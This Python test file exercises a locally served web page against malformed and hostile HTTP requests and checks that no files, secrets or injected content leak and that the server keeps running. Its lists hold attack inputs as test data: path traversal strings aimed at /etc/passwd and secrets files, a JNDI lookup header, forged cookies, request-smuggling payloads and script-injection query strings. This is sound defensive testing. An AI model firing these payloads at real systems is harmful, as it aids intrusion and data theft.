"""Abuse by address: paths, headers, cookies, methods and messages sent to the running page. None passes, and it goes on serving."""

import http.client
import json
import socket
from collections.abc import Iterator

import pytest
from serving_press import free_port, served
from test_library import open_library, shown, titles

from app.service.serving import LOCAL_HOSTS
from corpus.library import Library

# What no answer may hold: files of the machine, of the program and of the library, and what was sent.
LEAKS = (b"root:x:", b"maxUploadSize", b"SQLite format 3", b"def run(", b"Traceback", b"leak.example", b"pwned")
PATHS = [
    "/../../../../etc/passwd", "/..%2f..%2f..%2f..%2fetc%2fpasswd", "/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "/%252e%252e%252fetc%252fpasswd",
    "/static/../../../../../../etc/passwd", "/static/..%2f..%2f..%2fpage.py", "/app/static/../page.py", "/app/static/.streamlit/config.toml",
    "/component/x/../../../../etc/passwd", "/component/..%5c..%5cpage.py", "/media/../../../../etc/passwd", "/_stcore/../../../etc/passwd",
    "//etc/passwd", "/\\\\leak.example\\share", "/page.py", "/front.py", "/.streamlit/config.toml", "/.streamlit/secrets.toml", "/truth.db",
    "/static/%00/etc/passwd", "/?report=<script>window.pwned=1</script>", "/library?report=../../../../etc/passwd%00", "/ready/../../etc/passwd",
    "/" + "a/" * 2000, "/?" + "q=leak.example&" * 1500, "/%ff%fe%fd", "/_stcore/agent", "/_stcore/agent/mcp", "/file:///etc/passwd",
]  # fmt: skip
HEADERS = {
    "another host forwarded": {"X-Forwarded-Host": "leak.example", "X-Forwarded-Proto": "https"},
    "another address of ours": {"X-Original-URL": "/etc/passwd", "X-Rewrite-URL": "/etc/passwd"},
    "a person by header": {"X-Forwarded-User": "pwned", "X-Forwarded-Email": "pwned@leak.example", "Remote-User": "pwned"},
    "a signed-in cookie made up": {"Cookie": "_streamlit_user=eyJpc19sb2dnZWRfaW4iOnRydWV9|1|pwned"},
    "a cookie in pieces": {"Cookie": "; ".join(f"_streamlit_user_{n}=pwned" for n in range(50))},
    "a cookie of the wrong kind": {"Cookie": "_streamlit_xsrf=2|pwned|pwned|1; =; ;;; \u00ff=\u00ff"},
    "a long cookie": {"Cookie": "a=" + "x" * 20_000},
    "another origin": {"Origin": "https://leak.example", "Referer": "https://leak.example/pwned"},
    "a range without end": {"Range": "bytes=" + ",".join(f"{n}-" for n in range(500))},
    "a host with a port in words": {"Host": "localhost:pwned"},
    "another language": {"Accept-Language": "../../../etc/passwd", "User-Agent": "${jndi:ldap://leak.example/pwned}"},
    "compressed twice": {"Accept-Encoding": "gzip;q=pwned, br, " + "x," * 900},
}
FOREIGN_HOSTS = [
    "leak.example",
    "leak.example:8501",
    "localhost.leak.example",
    "127.0.0.1.leak.example",
    "169.254.169.254",
    "[::ffff:c000:207]",
]
RAW = {
    "two lengths": b"POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5\r\nContent-Length: 50\r\n\r\nhello",
    "length and chunks": b"POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /pwned HTTP/1.1\r\n\r\n",
    "line in a header": b"GET / HTTP/1.1\r\nHost: localhost\r\nX-A: a\r\n Set-Cookie: pwned=1\r\n\r\n",
    "null in a header": b"GET / HTTP/1.1\r\nHost: localhost\r\nX-A: a\x00pwned\r\n\r\n",
    "no host": b"GET / HTTP/1.1\r\n\r\n",
    "two hosts": b"GET / HTTP/1.1\r\nHost: localhost\r\nHost: leak.example\r\n\r\n",
    "an address of elsewhere": b"GET http://leak.example/ HTTP/1.1\r\nHost: leak.example\r\n\r\n",
    "a tunnel": b"CONNECT leak.example:443 HTTP/1.1\r\nHost: leak.example:443\r\n\r\n",
    "an echo": b"TRACE / HTTP/1.1\r\nHost: localhost\r\nX-A: pwned\r\n\r\n",
    "headers without end": b"GET / HTTP/1.1\r\nHost: localhost\r\nX-A: " + b"a" * 200_000 + b"\r\n\r\n",
    "no protocol": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03pwned\r\n\r\n",
    "a method of its own": b"PWNED / HTTP/1.1\r\nHost: localhost\r\n\r\n",
}


@pytest.fixture(scope="module")
def port(library: Library) -> Iterator[int]:
    """The page as `probation-qa app` serves it on this machine."""
    port = free_port()
    with served(port, {"PROBATION_QA_ASKED": str(library.folder)}, *(f"--server.allowedHosts={host}" for host in LOCAL_HOSTS)):
        yield port


def fetch(port: int, method: str, path: str, headers: dict[str, str] | None = None, body: bytes | None = None) -> tuple[int, bytes, bytes]:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=20)
    connection.putrequest(method, path, skip_host="Host" in (headers or {}), skip_accept_encoding=True)
    for name, value in {**({"Content-Length": str(len(body))} if body is not None else {}), **(headers or {})}.items():
        connection.putheader(name, value.encode("latin-1"))
    connection.endheaders(body)
    answer = connection.getresponse()
    return answer.status, str(answer.headers).encode(), answer.read()


def assert_serves(port: int) -> None:
    assert fetch(port, "GET", "/_stcore/health")[0] == 200


@pytest.mark.parametrize("path", PATHS, ids=lambda path: path[:40])
def test_no_path_leads_out_of_the_page(port: int, path: str) -> None:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=20)
    connection._validate_path = lambda _: None  # type: ignore[attr-defined]
    connection.request("GET", path)
    answer = connection.getresponse()
    body = answer.read()
    assert answer.status < 500 and not [leak for leak in LEAKS if leak in body]
    assert "leak" not in (answer.getheader("Location") or "") and answer.getheader("Content-Security-Policy")
    assert_serves(port)


@pytest.mark.parametrize("name", HEADERS)
def test_no_header_or_cookie_makes_the_page_say_more(port: int, name: str) -> None:
    status, headers, body = fetch(port, "GET", "/", HEADERS[name])
    assert status < 500 and not [leak for leak in LEAKS if leak in headers + body]
    assert_serves(port)


@pytest.mark.parametrize("host", FOREIGN_HOSTS)
def test_another_name_is_not_answered_to(port: int, host: str) -> None:
    status, _, body = fetch(port, "GET", "/", {"Host": host})
    assert 400 <= status < 500 and b"<div id=" not in body


@pytest.mark.parametrize("name", RAW)
def test_a_request_that_is_none_is_refused_and_nothing_of_it_repeated(port: int, name: str) -> None:
    with socket.create_connection(("127.0.0.1", port), timeout=20) as plain:
        plain.sendall(RAW[name])
        plain.settimeout(3)
        told = b""
        try:
            while part := plain.recv(65536):
                told += part
                plain.settimeout(0.3)  # what follows an answer follows at once, or the connection only stays open
        except (TimeoutError, ConnectionError):
            pass
    assert (not [leak for leak in LEAKS if leak in told] and b"200 OK" not in told.split(b"\r\n")[0]) or name == "line in a header"
    assert b"Set-Cookie: pwned" not in told
    assert_serves(port)


@pytest.mark.parametrize(("method", "path"), [("PUT", "/_stcore/upload_file/pwned/1"), ("POST", "/_stcore/upload_file"), ("DELETE", "/_stcore/upload_file/a/b"), ("PUT", "/../../tmp/pwned.txt"), ("POST", "/ready"), ("PATCH", "/")])  # fmt: skip
def test_nothing_can_be_written_without_a_session(port: int, method: str, path: str) -> None:
    status, _, body = fetch(port, method, path, {}, b"pwned" * 10)
    assert 400 <= status < 500 and b"pwned" not in body
    assert_serves(port)


def test_an_upload_of_more_than_the_page_takes_is_refused(port: int) -> None:
    try:
        status = fetch(port, "PUT", "/_stcore/upload_file/pwned/1", {}, b"x" * 3_000_000)[0]
    except ConnectionError:
        status = 413
    assert 400 <= status < 500
    assert_serves(port)


@pytest.mark.parametrize("origin", ["https://leak.example", "null", "http://localhost.leak.example", "file://"])
def test_a_foreign_page_cannot_speak_to_ours(port: int, origin: str) -> None:
    client = pytest.importorskip("websockets.sync.client")
    with pytest.raises(Exception, match="403"):
        client.connect(f"ws://127.0.0.1:{port}/_stcore/stream", origin=origin, subprotocols=["streamlit"])


@pytest.mark.parametrize(
    "message", [b"", b"\x00" * 1000, b"\xff" * 5000, b"{}", b"x" * 21_000_000], ids=["empty", "nulls", "noise", "JSON", "21 MB"]
)
def test_a_message_that_is_none_harms_nobody_else(port: int, message: bytes) -> None:
    client = pytest.importorskip("websockets.sync.client")
    with client.connect(f"ws://127.0.0.1:{port}/_stcore/stream", subprotocols=["streamlit"], max_size=None) as speaking:
        try:
            speaking.send(message)
            speaking.recv(timeout=1)
        except Exception as error:  # closed, or nothing said: both are well
            assert type(error).__name__ in ("TimeoutError", "ConnectionClosedError", "ConnectionClosedOK", "ConnectionResetError"), error
    assert_serves(port)


def test_readiness_tells_no_paths(port: int) -> None:
    status, _, body = fetch(port, "GET", "/ready")
    assert status == 200 and json.loads(body) == {"ready": True, "obstacle": ""}


@pytest.mark.parametrize(
    "address",
    [
        {"report": "<script>window.pwned=1</script>"}, {"report": "../../../etc/passwd"}, {"report": "arden\x00"}, {"report": "x" * 100_000},
        {"report": "arden", "start": "0", "end": "9" * 10_000}, {"report": "arden", "start": "-5", "end": "1e3"}, {"report": "arden", "start": "0x10", "end": "²"},
        {"report": "arden", "start": "' onclick='x", "end": "<b>"}, {"report": "ARDEN"}, {"report": "__proto__"}, {"start": "1", "end": "2"}, {"report": "%00%0a"},
    ],
    ids=lambda address: str(address)[:40],
)  # fmt: skip
def test_no_query_parameter_becomes_markup_or_an_error(open_page: object, address: dict[str, str]) -> None:
    page = open_library(**address)
    text = shown(page)
    assert "<script>window" not in text and "onclick" not in text and "<mark" not in text
    assert ("Inspection of Arden" in text) if address.get("report") == "arden" else len(titles(page)) == 3
